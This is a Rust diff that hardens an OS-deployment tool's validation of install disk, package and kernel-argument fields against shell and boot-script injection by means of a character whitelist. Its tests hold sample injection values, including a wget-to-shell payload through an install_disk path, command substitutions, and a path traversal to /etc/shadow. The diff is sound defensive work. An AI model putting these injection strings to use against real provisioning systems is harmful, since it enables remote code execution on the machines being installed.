@@ -381,28 +381,11 @@ fn check_control_info(info: &Map<String, Value>) -> Result<(), FieldError> {
             }
             // OS deployment: the disk to install on, extra packages and
             // kernel arguments for the installer.
-            "install_disk" => {
-                value
+            "install_disk" | "install_packages" | "install_args" => {
+                let s = value
                     .as_str()
-                    .filter(|d| d.starts_with("/dev/") && !d.contains(char::is_whitespace))
-                    .ok_or_else(|| {
-                        FieldError::new(&field, "must be a device path such as /dev/sda")
-                    })?;
-            }
-            "install_packages" | "install_args" => {
-                value
-                    .as_str()
-                    .filter(|v| {
-                        v.chars().all(|c| {
-                            c.is_ascii_graphic() && !"'\"\\`$;&|<>".contains(c) || c == ' '
-                        })
-                    })
-                    .ok_or_else(|| {
-                        FieldError::new(
-                            &field,
-                            "must be a space-separated string without quotes or shell characters",
-                        )
-                    })?;
+                    .ok_or_else(|| FieldError::new(&field, "must be a string"))?;
+                check_install_value(key, s)?;
             }
             "cipher_suite" => {
                 as_int(value)
@@ -416,6 +399,51 @@ fn check_control_info(info: &Map<String, Value>) -> Result<(), FieldError> {
         super::VmShape::from_control_info(info)?;
     }
     Ok(())
+}
+
+/// Checks a `control_info` value that reaches an answer file, a kernel
+/// command line or a boot script (`install_disk`, `install_packages`,
+/// `install_args`) against a whitelist of characters: answer files run
+/// shell (preseed's early command, kickstart's %post), iPXE expands
+/// `${...}` and GRUB splits on `;`, so anything outside the whitelist is
+/// refused rather than escaped. Used when a node is written and again by
+/// the conductor before rendering (records stored before the check).
+pub fn check_install_value(key: &str, value: &str) -> Result<(), FieldError> {
+    let field = format!("control_info.{key}");
+    let words_of = |extra: &str| {
+        value.len() <= 4096
+            && value.split(' ').all(|w| {
+                w.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || extra.as_bytes().contains(&b))
+            })
+    };
+    let (ok, what) = match key {
+        "install_disk" => (
+            value.len() <= 255
+                && value.strip_prefix("/dev/").is_some_and(|rest| {
+                    !rest.is_empty()
+                        && !rest.split('/').any(|seg| seg == "..")
+                        && rest
+                            .bytes()
+                            .all(|b| b.is_ascii_alphanumeric() || b"/_.:+-".contains(&b))
+                }),
+            "must be a device path such as /dev/sda or /dev/disk/by-id/wwn-0x5000c5 (letters, digits, / _ . : + -)",
+        ),
+        "install_packages" => (
+            words_of("._+:~@=-"),
+            "must be package names separated by spaces (letters, digits, . _ + : ~ @ = -)",
+        ),
+        "install_args" => (
+            words_of("._,:/=+@~%-"),
+            "must be kernel arguments separated by spaces (letters, digits, . _ , : / = + @ ~ % -)",
+        ),
+        _ => (true, ""),
+    };
+    if ok {
+        Ok(())
+    } else {
+        Err(FieldError::new(&field, what))
+    }
 }
 
 /// An integer given as a JSON number or a numeric string (`"623"`), since
@@ -536,7 +564,7 @@ mod tests {
 
 #[cfg(test)]
 mod address_tests {
-    use super::check_address;
+    use super::{check_address, check_install_value};
 
     #[test]
     fn bmc_addresses_may_be_redfish_urls() {
@@ -564,5 +592,42 @@ mod address_tests {
             );
         }
         assert!(check_address("control_info.ssh_address", "http://hv1", false).is_err());
+    }
+
+    /// The review's injection (`/dev/sda;wget${IFS}...|sh;#` landed in
+    /// preseed's early command) and its relatives: refused by whitelist.
+    #[test]
+    fn install_values_reaching_answer_files_are_whitelisted() {
+        for (key, bad) in [
+            ("install_disk", "/dev/sda;wget${IFS}http://x/a|sh;#"),
+            ("install_disk", "/dev/sda$(reboot)"),
+            ("install_disk", "/dev/../etc/shadow"),
+            ("install_disk", "/dev/"),
+            ("install_disk", "sda"),
+            ("install_packages", "vim;rm"),
+            ("install_packages", "vim $(id)"),
+            ("install_packages", "a\nb"),
+            ("install_args", "console=ttyS0 ${net0/ip}"),
+            ("install_args", "a'b"),
+            ("install_args", "x;y"),
+            ("install_args", "x#y"),
+        ] {
+            let e = check_install_value(key, bad).expect_err(bad);
+            assert_eq!(e.field, format!("control_info.{key}"), "{bad}");
+        }
+        for (key, good) in [
+            ("install_disk", "/dev/disk/by-path/pci-0000:00:1f.2-ata-1"),
+            ("install_disk", "/dev/nvme0n1"),
+            (
+                "install_packages",
+                "vim tmux @core -firewalld kernel-5.14+x",
+            ),
+            (
+                "install_args",
+                "console=ttyS0,115200n8 ip=dhcp inst.repo=http://10.0.0.1:3010/install/x/ a%20b",
+            ),
+        ] {
+            assert!(check_install_value(key, good).is_ok(), "{good}");
+        }
     }
 }
